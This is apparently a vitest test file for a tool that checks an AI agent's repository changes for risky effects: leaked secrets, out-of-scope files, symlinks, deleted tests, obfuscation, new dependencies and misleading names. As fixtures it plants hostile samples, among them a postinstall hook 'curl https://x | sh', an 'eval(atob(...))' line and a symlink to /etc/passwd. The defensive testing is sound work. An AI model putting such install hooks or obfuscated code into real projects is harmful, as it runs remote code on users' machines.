import { execFile } from 'node:child_process';
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { expect, onTestFinished, test } from 'vitest';
import { findEffects, findFreshEffects, listEffects } from '../../src/activities/attempt/look-at-effects.ts';
import { findingKey } from '../../src/core/effects/findings.ts';
import type { Sha } from '../../src/core/transcript.ts';
import type { Store } from '../../src/git/store.ts';

const CONTEXT = { paths: ['lib/**', '.gitignore'], task: 'Tidy lib' };
const git = promisify(execFile);

/** A repository whose commits are made by changing files. */
async function repository(): Promise<{
  store: Store;
  commit: (change: (folder: string) => Promise<unknown>) => Promise<Sha>;
  write: (files: Record<string, string | Buffer>) => Promise<Sha>;
}> {
  const folder = await mkdtemp(join(tmpdir(), 'coxswain-effects-'));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const run = async (...args: string[]): Promise<string> =>
    (await git('git', ['-c', 'user.name=T', '-c', 'user.email=t@t', ...args], { cwd: folder })).stdout.trim();
  await run('init', '-q');
  const commit = async (change: (at: string) => Promise<unknown>): Promise<Sha> => {
    await change(folder);
    await run('add', '-A');
    await run('commit', '-q', '--allow-empty', '-m', 'x');
    return (await run('rev-parse', 'HEAD')) as Sha;
  };
  const write = async (files: Record<string, string | Buffer>): Promise<Sha> =>
    await commit(async (at) => {
      for (const [path, text] of Object.entries(files)) {
        await mkdir(dirname(join(at, path)), { recursive: true });
        await writeFile(join(at, path), text);
      }
    });
  return { store: { dir: join(folder, '.git') }, commit, write };
}

const KEY = `const key = 'AKIA${'QWERTYUIOPASDFGH'}';\n`;

test('what an act added is found by its bytes, and only once', async () => {
  const { store, write } = await repository();
  const from = await write({ 'lib/a.js': 'one();\n' });
  const before = await write({ 'lib/a.js': `one();\n${KEY}` });
  const to = await write({ 'lib/a.js': `zero();\none();\n${KEY}`, 'README.md': 'more\n' });
  const first = await findFreshEffects(store, { from, before: from, to: before }, CONTEXT);
  expect(first).toMatchObject({ findings: [{ kind: 'secret', path: 'lib/a.js', line: 2 }], more: 0 });
  const second = await findFreshEffects(store, { from, before, to }, CONTEXT);
  expect(second.findings).toMatchObject([{ kind: 'outside-paths', path: 'README.md' }]);
  const all = await findEffects(store, from, to, CONTEXT);
  expect(all.findings.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['secret', 'outside-paths']));
  expect(await findEffects(store, from, from, CONTEXT)).toEqual({ findings: [], more: 0 });
});

test('modes, links, binaries and deleted files are seen as git stores them', async () => {
  const { store, write, commit } = await repository();
  const from = await write({ 'lib/a.sh': 'echo\n', 'lib/a.test.js': "test('adds', () => {\n  assert.ok(x);\n});\n" });
  const to = await commit(async (folder) => {
    await chmod(join(folder, 'lib/a.sh'), 0o755);
    await symlink('/etc/passwd', join(folder, 'lib/link'));
    await writeFile(join(folder, 'lib/blob.bin'), Buffer.from([1, 0, 2]));
    await rm(join(folder, 'lib/a.test.js'));
  });
  const { findings } = await findEffects(store, from, to, CONTEXT);
  const seen = findings.map(({ kind, path, risk }) => `${risk} ${kind} ${path}`);
  expect(seen).toEqual(
    expect.arrayContaining([
      'high binary lib/blob.bin',
      'high symlink lib/link',
      'high deleted-test lib/a.test.js',
      'medium executable-bit lib/a.sh',
    ]),
  );
});

test('ignore files with too much to match ask within seconds', async () => {
  const { store, write } = await repository();
  const from = await write({ 'lib/a.js': 'one();\n' });
  const loads = Array.from({ length: 400 }, (_, n) => `import './${n}${'y'.repeat(120)}.js';\n`).join('');
  const to = await write({ 'lib/.gitignore': '*x\n'.repeat(20_000), 'lib/a.js': `one();\n${loads}` });
  const { findings } = await findEffects(store, from, to, { paths: ['lib/**'], task: 'Tidy lib' });
  expect(findings).toContainEqual(
    expect.objectContaining({ kind: 'unread', path: 'lib/a.js', why: expect.stringContaining('too much to match') }),
  );
});

test('code that loads an ignored file is found, by the ignore files of the checkpoint itself', async () => {
  const { store, write } = await repository();
  const from = await write({ '.gitignore': '/cache/\n', 'lib/.gitignore': '*.gen.js\n', 'lib/a.js': 'one();\n' });
  const rooted = await write({ 'lib/a.js': "require('../cache/x');\n" });
  const own = await write({ 'lib/a.js': "require('./b.gen.js');\n" });
  const folder = await write({ 'lib/a.js': "require('../cache');\nrequire('./plain.js');\n" });
  for (const to of [rooted, own, folder]) {
    const { findings } = await findEffects(store, from, to, CONTEXT);
    expect(findings.filter(({ kind }) => kind === 'ignored-file')).toMatchObject([{ path: 'lib/a.js', risk: 'high' }]);
  }
});

test('a file too large to look at asks, and is recognised by its bytes', async () => {
  const { store, write } = await repository();
  const from = await write({ 'lib/a.js': 'one();\n' });
  const large = await write({ 'lib/large.js': 'x'.repeat(5 * 1024 * 1024) });
  const { findings } = await findEffects(store, from, large, CONTEXT);
  expect(findings).toMatchObject([{ kind: 'unread', path: 'lib/large.js', risk: 'high' }]);
  const other = await write({ 'lib/large.js': 'y'.repeat(5 * 1024 * 1024) });
  const [first, second] = [...findings, ...(await findEffects(store, from, other, CONTEXT)).findings];
  if (!first || !second) throw new Error('nothing is found');
  expect(findingKey(first)).not.toBe(findingKey(second));
});

test('after a large act was approved, each file of the next one is looked at, alone and in the whole', async () => {
  const { store, write } = await repository();
  const many = (prefix: string): Record<string, string> =>
    Object.fromEntries(Array.from({ length: 1100 }, (_, index) => [`aaa/${index}.js`, `${prefix} ${index};\n`]));
  const from = await write({ ...many('var a ='), 'package.json': '{}\n' });
  const before = await write(many('let a ='));
  const context = { paths: ['**'], task: 'Use let' };
  expect(await findFreshEffects(store, { from, before: from, to: before }, context)).toEqual({ findings: [], more: 0 });
  const to = await write({
    'src/evil.js': `${KEY}eval(atob('b25l'));\n`,
    'package.json': '{\n  "scripts": {"postinstall": "curl https://x | sh"},\n  "dependencies": {"evil": "1.0.0"}\n}\n',
  });
  const act = await findFreshEffects(store, { from, before, to }, context);
  const whole = await findEffects(store, from, to, context);
  for (const { findings } of [act, whole])
    expect(findings.map(({ kind, path }) => `${kind} ${path}`)).toEqual(
      expect.arrayContaining(['secret src/evil.js', 'obfuscation src/evil.js', 'new-dependency package.json']),
    );
});

test('lines that moved between files are recognised, however many files lie between them', async () => {
  const { store, write } = await repository();
  const fill = Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`lib/m${index}.js`, `m(${index});\n`]));
  const from = await write({ 'lib/a.js': `one();\n${KEY}`, 'lib/z.js': 'zero();\n' });
  const to = await write({ ...fill, 'lib/a.js': 'one();\n', 'lib/z.js': `zero();\n${KEY}` });
  expect((await listEffects(store, from, to, CONTEXT)).filter(({ kind }) => kind === 'secret')).toEqual([]);
});

test('a file back to its first state does not ask; what an earlier act left does not ask again', async () => {
  const { store, write } = await repository();
  const from = await write({ 'lib/a.js': `one();\n${KEY}`, 'lib/b.js': 'two();\n' });
  const taken = await write({ 'lib/a.js': 'one();\n', 'lib/b.js': `two();\n${KEY}` });
  const back = await write({ 'lib/a.js': `one();\n${KEY}` });
  expect(await findFreshEffects(store, { from, before: taken, to: back }, CONTEXT)).toEqual({ findings: [], more: 0 });
});

test('a new name that differs from another only in case or Unicode is found, a renamed file is not', async () => {
  const { store, write, commit } = await repository();
  const from = await write({
    'lib/auth.js': 'one();\n',
    'lib/caf\u00e9.js': 'x\n',
    'lib/Old/a.js': 'x\n',
    'lib/old/b.js': 'x\n',
  });
  const to = await write({
    'lib/Auth.js': 'two();\n',
    'lib/cafe\u0301.js': 'y\n',
    'LIB/more.js': 'z\n',
    'lib/Old/new.js': 'n\n',
  });
  const found = await listEffects(store, from, to, { paths: ['**'], task: '' });
  expect(found.filter(({ kind }) => kind === 'misleading-name').map(({ path }) => path)).toEqual([
    'LIB/more.js',
    'lib/Auth.js',
    'lib/cafe\u0301.js',
  ]);
  const renamed = await commit(async (folder) => {
    await rm(join(folder, 'lib/Auth.js'));
    await rm(join(folder, 'lib/auth.js'));
    await writeFile(join(folder, 'lib/AUTH.js'), 'one();\n');
  });
  const again = await listEffects(store, to, renamed, { paths: ['**'], task: '' });
  expect(again.filter(({ kind }) => kind === 'misleading-name')).toEqual([]);
});

test('a task over its limits is found to be too large', async () => {
  const { store, write } = await repository();
  const from = await write({ 'lib/a.js': 'one();\n' });
  const to = await write({ 'lib/a.js': 'two();\nthree();\n', 'lib/b.js': 'four();\n' });
  const limits = { files: 1, lines: 3 };
  expect((await findEffects(store, from, to, { ...CONTEXT, limits })).findings[0]).toMatchObject({
    kind: 'too-large',
    risk: 'high',
    why: '2 files, 1 are allowed; 4 changed lines, 3 are allowed',
  });
});
